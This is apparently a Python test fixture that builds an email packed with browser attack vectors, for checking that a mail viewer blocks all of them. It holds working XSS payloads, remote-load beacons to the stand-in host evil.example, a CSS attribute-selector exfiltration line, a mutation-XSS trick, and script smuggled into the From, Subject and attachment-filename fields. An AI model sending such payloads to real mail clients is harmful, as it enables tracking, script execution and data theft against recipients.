"""A mail that tries everything a browser can be tricked with. `evil.example` hears of none."""

from email.message import EmailMessage

HTML = """
<!DOCTYPE html><html><head><title>x</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/link.css">
<link rel="prefetch" href="http://evil.example/prefetch">
<link rel="dns-prefetch" href="//evil.example">
<base href="http://evil.example/">
<style>@import url(http://evil.example/import.css); body{background:url(http://evil.example/css)}
input[value^=a]{background:url(http://evil.example/exfiltrated)}
@font-face{font-family:f;src:url(http://evil.example/font)}</style></head>
<body onload="parent.ran=1;alert(1)" background="http://evil.example/background">
<script>parent.ran=1;alert(2);fetch('http://evil.example/fetch')</script>
<p onclick="alert(3)" style="background:url(http://evil.example/style)">
These words are to be read.</p>
<img src="http://evil.example/img" srcset="http://evil.example/srcset 2x" onerror="alert(4)">
<picture><source srcset="http://evil.example/source"></picture>
<svg onload="alert(5)"><image href="http://evil.example/svg"/><use href="http://evil.example/use#a"/>
<script>alert(6)</script><style>*{background:url(http://evil.example/svgcss)}</style></svg>
<form action="http://evil.example/form"><input name="q" autofocus onfocus="alert(7)"></form>
<iframe src="http://evil.example/iframe" srcdoc="<script>parent.parent.ran=1</script>"></iframe>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<video src="http://evil.example/video" poster="http://evil.example/poster" autoplay></video>
<audio src="http://evil.example/audio" autoplay></audio>
<a href="javascript:alert(8)" ping="http://evil.example/ping">press</a>
<table background="http://evil.example/table"><tr>
<td background="http://evil.example/td">x</td></tr></table>
LINKS
<math><mtext><table><mglyph><style><!--</style>
<img src="http://evil.example/mutation" onerror="alert(9)">
</body></html>
"""


LINKS = "".join(f'<a href="http://evil.example/{at}">{at}</a> ' for at in range(10_000))


def _mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = '"<script>parent.ran=1</script>" <x@mail.example>'
    mail["To"] = "pals@ccg.example"
    mail["Subject"] = "<img src=http://evil.example/subject onerror=alert(10)>"
    mail.set_content("<script>window.ran=1</script> <img src=http://evil.example/plain>")
    mail.add_alternative(HTML.replace("LINKS", LINKS), subtype="html")
    mail.add_attachment(
        "<script>alert(11)</script>", filename="<img src=x onerror=alert(12)>.html", subtype="html"
    )
    mail.add_attachment(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(13)'/>",
        filename="x.svg",
        subtype="svg",
    )
    return mail.as_bytes()


HOSTILE = _mail()
"""The mail, byte for byte."""
